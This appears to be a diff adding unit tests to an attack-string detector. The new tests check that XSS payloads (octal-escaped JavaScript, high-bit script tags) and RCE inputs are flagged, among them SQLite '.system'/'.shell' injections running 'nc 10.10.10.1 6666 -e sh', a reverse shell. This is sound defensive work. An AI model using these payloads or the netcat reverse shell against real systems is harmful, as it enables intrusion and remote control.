@@ -774,3 +774,14 @@ t.test('sqli (eleventh round): a stored routine called after a separator, a cond
   // prose calling someone, a routine without a system's name, a spreadsheet's IIF typed as a formula
   for (const p of ['ok; call mom (later)', 'then; call foo(x)', '=IIF(A1>3, "big", "small")', 'the information_schema.foo docs']) t.notOk(q(p).includes('sqli'), p)
 })
+
+t.test('xss (eleventh round): a page read with its high bit dropped, JavaScript octal escapes', async (t) => {
+  for (const p of ['¼script ¾alert(1)//¼/script ¾', '¼script¾alert(¢42¢)¼/script¾', '(()=>{})["\\143\\157\\156\\163\\164\\162\\165\\143\\164\\157\\162"]("\\141\\154\\145\\162\\164()")()']) t.ok(q(p).includes('xss'), p)
+  // a recipe's fractions, octal escapes that spell no script, a Windows path with digits
+  for (const p of ['1¼ cup onion½ and ¾ tsp salt', '¼ of the ¾ left', 'printf("\\101\\102\\103")', 'C:\\100\\200\\300']) t.notOk(q(p).includes('xss'), p)
+})
+
+t.test("rce (eleventh round): the SQLite shell's dot commands, other shells given -c", async (t) => {
+  for (const p of [';\\n.system nc 10.10.10.1 6666 -e sh\\n', "1;.'shell whoami", '";\n. shell nc 10.10.10.1 6666 -e sh', 'zsh -c id', 'ksh -c whoami']) t.ok(q(p).includes('rce'), p)
+  for (const p of ['use the .shell command', 'foo\n  .system(x)', 'zsh is my shell', 'the .system file']) t.notOk(q(p).includes('rce'), p)
+})
